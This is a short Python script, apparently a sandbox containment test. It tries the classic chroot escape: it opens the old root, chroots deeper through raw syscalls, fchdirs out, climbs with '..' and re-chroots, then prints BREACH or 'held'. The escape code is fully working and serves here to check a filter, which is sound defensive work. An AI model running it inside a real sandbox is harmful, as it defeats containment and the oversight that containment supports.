# attack: the classic escape from a chroot: chroot deeper, then fchdir and climb out
# must end: completed
# below strong: refused at outside = os.open("/", os.O_RDONLY)
import ctypes, errno, os, platform
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def call(x86, arm, *args):
    ctypes.set_errno(0)
    number = x86 if platform.machine() == "x86_64" else arm
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    return result, ctypes.get_errno()
REFUSED = (errno.EPERM, errno.ENOSYS)
root = os.stat("/")
os.makedirs("cage", exist_ok=True)
outside = os.open("/", os.O_RDONLY)
result, error = call(161, 51, b"cage")
if result == 0:
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    call(161, 51, b".")
    print("BREACH: chroot worked; now at", os.listdir("/")[:20])
elif error not in REFUSED:
    print("BREACH: chroot passed the filter", error)
os.close(outside)
print("held")
